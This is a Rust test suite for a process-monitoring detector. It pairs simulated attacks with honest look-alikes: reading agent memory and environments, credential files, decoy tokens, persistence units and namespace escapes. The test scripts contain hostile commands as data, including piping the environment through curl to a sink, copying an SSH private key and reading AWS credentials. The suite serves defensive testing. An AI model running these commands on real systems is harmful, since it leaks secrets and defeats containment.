//! Direct findings, live: for each rule an attack, and an honest act of the same class that must not be taken for one. Each
//! pair runs the same rule over the same kind of events, so that no threshold passes both.

use detector::engine::{Severity, Verdict};
use detector_tests::{
    fixture::{attack, benign, binary},
    run::Job,
    scene::Scene,
    watched::Watched,
};
use std::path::PathBuf;

type Result = anyhow::Result<()>;

/// A job that runs `script` in audit: direct findings change nothing in either mode.
fn job<'a>(scene: &'a Scene, script: &str) -> anyhow::Result<Job<'a>> {
    let job = scene.job(["bash", "-c", script]).env("FIXTURE", binary("fixture")?);
    Ok(job.env("ARTIFACT", scene.home.artifact()).mode("audit"))
}

fn run(scene: &Scene, script: &str) -> anyhow::Result<Watched> {
    Watched::run(scene, &job(scene, script)?)
}

fn run_fixture(scene: &Scene, script: PathBuf) -> anyhow::Result<Watched> {
    let job = scene.job([script]).env("FIXTURE", binary("fixture")?);
    Watched::run(scene, &job.mode("audit"))
}

/// `rule` finds it, as bad as `severity`, with its technique and a sentence, and the verdict is FAIL.
#[track_caller]
fn found(run: &Watched, rule: &str, severity: Severity) {
    let findings = &run.conclusion.findings;
    assert_eq!(run.worst(rule), Some(severity), "{rule}: {findings:#?}");
    for finding in findings.iter().filter(|finding| finding.rule == rule) {
        assert!(
            finding.technique.is_some() && !finding.chain.is_empty() && !finding.message.is_empty(),
            "{finding:#?}"
        );
    }
    let fails = findings.iter().any(|finding| finding.severity >= Severity::High);
    assert_eq!(run.conclusion.verdict, if fails { Verdict::Fail } else { Verdict::Pass }, "{findings:#?}");
}

/// Nothing is worse than `most`, and the verdict is PASS.
#[track_caller]
fn honest(run: &Watched, most: Option<Severity>) {
    let findings = &run.conclusion.findings;
    assert!(findings.iter().map(|finding| finding.severity).max() <= most, "{findings:#?}");
    assert_eq!(run.conclusion.verdict, Verdict::Pass, "{:?}", run.conclusion.reasons);
    assert_eq!(run.outcome.code(), Some(0), "{}", String::from_utf8_lossy(&run.outcome.stderr));
}

#[test]
fn the_agents_memory() -> Result {
    let scene = Scene::new()?;
    let taken = run(&scene, "\"$FIXTURE\" vm-readv \"$AGENT_PID\" \"$SINK\"")?;
    found(&taken, "agent-memory", Severity::Critical);
    // A user who may not: the open fails, and there is no file to tell whose it was.
    let scene = Scene::new()?;
    let refused = run(
        &scene,
        "setpriv --reuid=65534 --regid=65534 --clear-groups cat /proc/$AGENT_PID/mem /proc/$AGENT_PID/environ; true",
    )?;
    found(&refused, "agent-memory", Severity::High);
    found(&refused, "agent-environ", Severity::Medium);
    Ok(())
}

#[test]
fn a_debugger_on_its_own_child() -> Result {
    let scene = Scene::new()?;
    let script = r#"
        gdb -q -nx -batch -ex starti -ex 'info proc mappings' -ex 'x/8xb $sp' -ex kill --args /bin/true \
          > "$TMPDIR/gdb.log" 2>&1 || exit
        "$FIXTURE" benign-ptrace "$SINK" "$ARTIFACT" && "$FIXTURE" benign-vm-readv "$SINK" "$ARTIFACT""#;
    // The interpreter inside gdb may look for certificates.
    honest(&run(&scene, script)?, Some(Severity::Info));
    Ok(())
}

const SIBLINGS: &str = r#"
    for n in 1 2 3 4 5; do TOKEN=$n sleep 20 & pids="$pids $!"; done
    trap 'kill $pids' EXIT
"#;

#[test]
fn environments_of_others() -> Result {
    let scene = Scene::new()?;
    let of_agent = run(&scene, "tr '\\0' '\\n' < /proc/$AGENT_PID/environ > \"$TMPDIR/x\"")?;
    found(&of_agent, "agent-environ", Severity::High);
    let through = run(&scene, &format!("{SIBLINGS} (for pid in $pids; do cat /proc/$pid/environ; done) > /dev/null"))?;
    found(&through, "foreign-environ", Severity::High);
    Ok(())
}

/// It reads the very same environments.
#[test]
fn ps_with_environments() -> Result {
    let scene = Scene::new()?;
    let run = run(&scene, &format!("{SIBLINGS} ps e -o command -p \"$(echo $pids | tr ' ' ,)\" > \"$TMPDIR/ps\""))?;
    let read = run.recording.accesses().filter(|(_, access)| access.door == detector::event::Door::Environ).count();
    assert!(read >= 5, "ps read {read} environments");
    honest(&run, None);
    Ok(())
}

#[test]
fn ones_own_environment() -> Result {
    let scene = Scene::new()?;
    let sent =
        Watched::run(&scene, &job(&scene, "cat /proc/self/environ | curl -s --data-binary @- \"http://$SINK/\"")?)?;
    found(&sent, "step-env", Severity::Low);
    assert_eq!(sent.conclusion.verdict, Verdict::Fail);
    assert!(sent.leaks().any(|leak| leak.secret == ["step-env"]), "{:#?}", sent.conclusion.findings);
    let shown = run(&scene, "tr '\\0' '\\n' < /proc/self/environ | sort; env | sort")?;
    found(&shown, "step-env", Severity::Low);
    honest(&shown, Some(Severity::Low));
    Ok(())
}

#[test]
fn going_through_a_home() -> Result {
    let scene = Scene::new()?;
    let asks = run_fixture(&scene, attack("probing"))?;
    found(&asks, "sweep", Severity::High);
    assert!(asks.leaks().next().is_none() && !asks.recording.events.iter().any(reads), "it was found before it read");
    let scene = Scene::new()?;
    let sends = run_fixture(&scene, attack("backup-of-home"))?;
    found(&sends, "sweep", Severity::High);
    Ok(())
}

fn reads(event: &detector::event::Event) -> bool {
    matches!(&event.body, detector::event::Body::Open(open) if open.read)
}

/// A scanner of the workspace finds the same names there; a backup reads all of the home, and nobody
/// is told; a program asks for its own settings, and goes without.
#[test]
fn honest_walks() -> Result {
    let scene = Scene::new()?;
    let scanner = run_fixture(&scene, benign("scanner"))?;
    found(&scanner, "sweep", Severity::Low);
    honest(&scanner, Some(Severity::Low));
    assert!(scanner.worst("undeclared-reader") <= Some(Severity::Low), "{:#?}", scanner.conclusion.findings);
    let scene = Scene::new()?;
    let backup = run_fixture(&scene, benign("backup-of-home"))?;
    found(&backup, "sweep", Severity::Medium);
    honest(&backup, Some(Severity::Medium));
    assert_eq!(backup.worst("undeclared-reader"), Some(Severity::Low));
    let scene = Scene::new()?;
    let settings = run(
        &scene,
        r#"python3 - <<'PY'
import json, os
for path in ("~/.npmrc", "~/.config/tool/settings.json", "~/.tool.json", "/etc/tool/settings.json", "./.npmrc"):
    if os.path.exists(os.path.expanduser(path)) and path.endswith(".json"):
        print(json.load(open(os.path.expanduser(path))))
print("defaults")
PY"#,
    )?;
    honest(&settings, Some(Severity::Info));
    Ok(())
}

#[test]
fn readers_of_a_credential() -> Result {
    let scene = Scene::new()?;
    let cat = run(&scene, "cat \"$HOME/.aws/credentials\" > /dev/null; cp \"$HOME/.ssh/id_ed25519\" \"$TMPDIR/x\"")?;
    found(&cat, "undeclared-reader", Severity::Medium);
    Ok(())
}

#[test]
fn git_reads_its_own() -> Result {
    let scene = Scene::new()?;
    let script = "git init -q .; git config --get http.https://forge.example/.extraheader > /dev/null; git status > /dev/null";
    honest(&run(&scene, script)?, None);
    Ok(())
}

#[test]
fn decoys() -> Result {
    const PLANT: &str = "mkdir -p \"$HOME/.config/detector/decoy\" \"$HOME/.config/detector/other\"";
    let scene = Scene::new()?;
    let script = |name: &str| {
        format!("[ -f \"$HOME/.config/detector/{name}/token\" ] && cat \"$HOME/.config/detector/{name}/token\"; true")
    };
    std::fs::create_dir_all(scene.home.path().join(".config/detector/decoy"))?;
    std::fs::create_dir_all(scene.home.path().join(".config/detector/other"))?;
    for name in ["decoy", "other"] {
        std::fs::write(scene.home.path().join(format!(".config/detector/{name}/token")), "a decoy\n")?;
    }
    found(&run(&scene, &script("decoy"))?, "decoy", Severity::High);
    honest(&run(&scene, &format!("{PLANT}; {}", script("other")))?, None);
    Ok(())
}

/// What a thief leaves behind, against what a package brings: the same file, in a mount namespace of their own.
#[test]
fn persistence() -> Result {
    let scene = Scene::new()?;
    let left = run_fixture(&scene, attack("persistence"))?;
    found(&left, "escape", Severity::High);
    let scene = Scene::new()?;
    let unit = run(&scene, "mkdir -p \"$HOME/.config/systemd/user\"; echo > \"$HOME/.config/systemd/user/x.service\"")?;
    found(&unit, "escape", Severity::High);
    let scene = Scene::new()?;
    let read =
        run(&scene, "cat /etc/sudoers /etc/ld.so.preload /etc/crontab > /dev/null 2>&1; ls /etc/cron.d > /dev/null")?;
    assert_eq!(read.worst("escape"), None, "{:#?}", read.conclusion.findings);
    Ok(())
}

#[test]
fn a_package_with_a_cron_job() -> Result {
    let scene = Scene::new()?;
    let package = run_fixture(&scene, benign("package-with-cron"))?;
    honest(&package, None);
    Ok(())
}

#[test]
fn ways_out() -> Result {
    let scene = Scene::new()?;
    let script = "cp /bin/true \"$TMPDIR/nsenter\"; cp /bin/true \"$TMPDIR/docker\"; ";
    let out = run(&scene, &format!("{script} \"$TMPDIR/nsenter\" -t 1 -m sh; \"$TMPDIR/docker\" run -v /:/host x"))?;
    found(&out, "escape", Severity::High);
    let inside =
        format!("{script} \"$TMPDIR/nsenter\" -t $$ -n sh; \"$TMPDIR/docker\" run -v \"$PWD:/w\" x; unshare -n true");
    honest(&run(&scene, &inside)?, None);
    Ok(())
}

#[test]
fn the_sensor_itself() -> Result {
    let scene = Scene::new()?;
    // It holds no secret of the runner, so that the act fails when it has looked.
    let looked = run(&scene, "\"$FIXTURE\" vm-readv $PPID \"$SINK\" 2> /dev/null; true")?;
    found(&looked, "sensor-tamper", Severity::Critical);
    Ok(())
}
